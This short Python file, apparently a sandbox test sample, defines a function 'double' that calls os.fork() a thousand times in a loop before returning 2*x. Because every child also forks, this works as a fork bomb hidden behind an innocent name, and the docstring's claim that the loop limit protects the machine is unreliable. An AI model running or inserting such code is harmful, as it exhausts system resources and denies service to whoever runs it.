"""Forks without end (a thousand times, lest a broken sandbox take the machine along)."""

import os


def double(x):
    for _ in range(1000):
        os.fork()
    return 2 * x
